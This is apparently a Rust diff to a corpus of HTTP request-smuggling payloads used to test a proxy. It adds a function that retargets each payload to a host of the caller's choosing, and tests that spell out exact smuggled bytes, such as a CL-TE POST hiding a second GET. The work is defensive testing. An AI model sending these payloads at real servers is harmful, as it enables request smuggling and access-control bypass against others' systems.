@@ -24,6 +24,11 @@
 /// their framing, never for their Host).
 pub const CORPUS_HOST: &str = "mirror.test";
 
+/// The other authority some cases name (an absolute-form target, a second
+/// Host, `:authority`); [`SmugglingCase::build_with`] can put another host
+/// name in its place.
+pub const OTHER_HOST: &str = "other.example";
+
 /// Length of the `@PAD@` filler: above every common head limit (egress-http
 /// 64 KiB, nginx 8 KiB, Apache 8 KiB per line).
 pub const PAD_BYTES: usize = 80 * 1024;
@@ -53,6 +58,24 @@ pub enum SmugglingClass {
     Http2,
 }
 
+/// What [`SmugglingCase::build_with`] puts in place of the corpus's names,
+/// and the smuggled request it hides.
+#[derive(Debug, Clone, Copy)]
+pub struct Smuggle<'a> {
+    /// The Host of every request, in place of [`CORPUS_HOST`], so that a
+    /// target routing by Host serves the smuggled request.
+    pub host: &'a str,
+    /// In place of [`OTHER_HOST`] (a host name or `host:port`), so that a
+    /// target that follows it reaches a host of the caller's choosing.
+    pub other: &'a str,
+    /// The smuggled request's target: an origin-form path the target is
+    /// known to serve with a 2xx.
+    pub target: &'a str,
+    /// Header lines added to the smuggled request after Host, each ending
+    /// in CRLF (an `Accept` the target needs, say); usually empty.
+    pub fields: &'a str,
+}
+
 /// One payload of the corpus.
 #[derive(Debug, Clone, Copy)]
 pub struct SmugglingCase {
@@ -74,13 +97,34 @@ impl SmugglingCase {
     /// The exact bytes to send, smuggling `GET <smuggled_target>` (an
     /// origin-form path the target is known to serve with a 2xx).
     pub fn build(&self, smuggled_target: &str) -> Vec<u8> {
-        let smuggled = format!("GET {smuggled_target} HTTP/1.1\r\nHost: {CORPUS_HOST}\r\n\r\n");
+        self.build_with(&Smuggle {
+            host: CORPUS_HOST,
+            other: OTHER_HOST,
+            target: smuggled_target,
+            fields: "",
+        })
+    }
+
+    /// [`SmugglingCase::build`] with the names of [`Smuggle`] in place of the
+    /// corpus's, and its fields added to the smuggled request; lengths are
+    /// computed after the change.
+    pub fn build_with(&self, s: &Smuggle<'_>) -> Vec<u8> {
+        let swap = |t: &[u8]| {
+            let t = replace(t, CORPUS_HOST.as_bytes(), s.host.as_bytes());
+            replace(&t, OTHER_HOST.as_bytes(), s.other.as_bytes())
+        };
+        let template_head = swap(self.head);
+        let template_body = swap(self.body);
+        let smuggled = format!(
+            "GET {} HTTP/1.1\r\nHost: {}\r\n{}\r\n",
+            s.target, s.host, s.fields
+        );
         let size_line = format!("{:x}\r\n", smuggled.len());
         let chunk = format!("{size_line}{smuggled}\r\n");
         let pad = "a".repeat(PAD_BYTES);
-        let body = replace(self.body, b"@SMUGGLED@", smuggled.as_bytes());
+        let body = replace(&template_body, b"@SMUGGLED@", smuggled.as_bytes());
         let body = replace(&body, b"@CHUNK@", chunk.as_bytes());
-        let head = replace(self.head, b"@LEN@", body.len().to_string().as_bytes());
+        let head = replace(&template_head, b"@LEN@", body.len().to_string().as_bytes());
         let head = replace(
             &head,
             b"@CHUNKLINE@",
@@ -284,6 +328,56 @@ mod tests {
                 c.id
             );
         }
+    }
+
+    #[test]
+    fn build_with_puts_its_names_everywhere() {
+        for c in SMUGGLING_CORPUS {
+            let raw = c.build_with(&Smuggle {
+                host: "127.0.0.1:8080",
+                other: "elsewhere.invalid",
+                target: "/x",
+                fields: "",
+            });
+            for gone in [CORPUS_HOST, OTHER_HOST] {
+                assert!(
+                    !raw.windows(gone.len()).any(|w| w == gone.as_bytes()),
+                    "{}",
+                    c.id
+                );
+            }
+            let same = Smuggle {
+                host: CORPUS_HOST,
+                other: OTHER_HOST,
+                target: "/x",
+                fields: "",
+            };
+            assert_eq!(c.build_with(&same), c.build("/x"), "{}", c.id);
+        }
+        let abs = SMUGGLING_CORPUS
+            .iter()
+            .find(|c| c.id == "absolute-form-https-mismatch")
+            .unwrap();
+        let raw = abs.build_with(&Smuggle {
+            host: "h:1",
+            other: "127.0.0.1",
+            target: "/x",
+            fields: "",
+        });
+        let raw = String::from_utf8(raw).unwrap();
+        assert!(raw.starts_with("GET https://127.0.0.1:443/simple/ HTTP/1.1\r\nHost: h:1\r\n"));
+        let cl_te = SMUGGLING_CORPUS.iter().find(|c| c.id == "cl-te").unwrap();
+        let raw = cl_te.build_with(&Smuggle {
+            host: "h.example:81",
+            other: OTHER_HOST,
+            target: "/x",
+            fields: "Accept: text/html\r\n",
+        });
+        let raw = String::from_utf8(raw).unwrap();
+        let body = "0\r\n\r\nGET /x HTTP/1.1\r\nHost: h.example:81\r\nAccept: text/html\r\n\r\n";
+        assert!(raw.starts_with("POST / HTTP/1.1\r\nHost: h.example:81\r\n"));
+        assert!(raw.contains(&format!("Content-Length: {}\r\n", body.len())));
+        assert!(raw.ends_with(body));
     }
 
     #[test]
